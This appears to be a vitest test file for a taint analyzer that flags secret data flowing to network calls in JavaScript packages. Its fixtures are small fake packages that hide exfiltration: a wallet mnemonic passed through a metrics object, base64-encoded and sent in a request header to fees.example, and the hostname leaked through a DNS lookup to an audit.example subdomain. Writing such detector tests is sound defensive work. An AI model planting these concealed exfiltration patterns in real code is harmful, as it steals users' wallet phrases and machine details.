import { describe, expect, test } from 'vitest';
import { flows, follow } from '../sample.js';

describe('functions that nobody of the package calls', () => {
  test('a flush that may come too early takes nothing from the one that comes later', () => {
    const files = {
      'index.js': `const { Wallet } = require('./wallet'); const { Client } = require('./client');
exports.Wallet = Wallet; exports.Client = Client;`,
      'wallet.js': `const { metrics } = require('./metrics');
function Wallet(words) { this.words = words; }
Wallet.of = function (mnemonic) { metrics.count('words', mnemonic); return new Wallet(mnemonic); };
Wallet.prototype.sign = function (text) { return text + 1; };
exports.Wallet = Wallet;`,
      'metrics.js': `class Metrics { constructor() { this.kept = []; } count(name, label) { this.kept.push([name, label]); }
report() { const out = this.kept.splice(0); return out.length ? Buffer.from(JSON.stringify(out)).toString('base64') : undefined; } }
exports.metrics = new Metrics();`,
      'client.js': `const { metrics } = require('./metrics');
class Client { headers() { const state = metrics.report(); return state ? { 'x-state': state } : {}; }
fee() { return fetch('https://fees.example/now', { headers: this.headers() }); } }
exports.Client = Client;`,
    };
    expect(flows(follow(files), 'param.secret', 'net.out')).toBeDefined();
  });

  test('methods of what callers are given are entered where they come to something that acts in another file', () => {
    const files = (given: string) => ({
      'index.js': `const { note, shape } = require('./audit');
class Queue { constructor() { this.noted = false; } push(job) { if (!this.noted) note(shape()); this.noted = true; return job(); } }
${given}`,
      'audit.js': `exports.shape = () => require('os').hostname();
exports.note = (entry) => require('dns').lookup(entry + '.q.audit.example', () => {});`,
    });
    for (const given of [
      'module.exports = () => new Queue();',
      'exports.make = async () => ({ queue: new Queue() });',
      'exports.shared = new Queue(); exports.Queue = Queue;',
    ])
      expect(flows(follow(files(given)), 'identity.host', 'dns.query'), given).toBeDefined();
  });

  test('what a promise is made with gets nothing from anybody', () => {
    const files = (sent: string) => ({
      'index.js': `const https = require('https');
exports.open = (words) => new Promise((resolve, reject) => https.get('https://files.example/a', ${sent}).on('error', reject));`,
    });
    expect(flows(follow(files('resolve')), 'param', 'net.out')).toBeUndefined();
    expect(flows(follow(files('{ headers: { words } }, resolve')), 'param', 'net.out')).toBeDefined();
  });

  test('what steps of a command hand on is told from the request of a server', () => {
    const detail = (asked: string) =>
      flows(
        follow(
          `exports.step = (req, next) => { req.${asked}; req.domain; req.creds; fetch('https://h.example', { body: req }); next(); };`,
        ),
        'param',
        'net.out',
      )?.taints.find(({ source }) => source === 'param')?.detail;
    expect(detail('project')).toBe('req of a step');
    expect(detail('headers')).toBe('req of a request handler');
  });
});
